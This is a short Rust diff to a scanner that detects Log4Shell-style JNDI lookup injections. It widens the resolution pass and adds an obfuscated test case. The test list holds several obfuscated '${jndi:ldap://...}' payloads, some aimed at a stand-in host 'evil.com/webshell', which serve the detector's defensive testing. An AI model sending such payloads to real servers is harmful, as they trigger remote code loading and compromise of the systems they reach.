@@ -39,7 +39,8 @@ pub fn scan(v: &Value<'_>, out: &mut Vec<Hit>) {
     let Some(first) = find_open(&bytes, 0) else { return };
     let since = out.len();
     let mut st = State::default();
-    let resolved = resolve(bytes.get(first..).unwrap_or_default(), 0, &mut st);
+    let _ = first;
+    let resolved = resolve(&bytes, 0, &mut st);
     let literal = super::textscan::contains_ci(t, "${jndi:");
     // Lookups that assemble `jndi:` outside a lookup (for a second evaluation pass).
     let assembled = st.lookup_syntax && super::textscan::contains_ci(&String::from_utf8_lossy(&resolved), "jndi:");
@@ -251,6 +252,7 @@ mod tests {
             "${${lower:jnd}${lower:${upper:ı}}:ldap:/x/z}",
             "$&LBRACE;jndi:ldap://evil.com/webshell}",
             "$\\u0026lbracejndi:ldap://evil.com/webshell}",
+            "j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://x/a",
         ] {
             assert!(rules(a).iter().any(|(_, s)| *s >= 5), "{a}: {:?}", rules(a));
         }
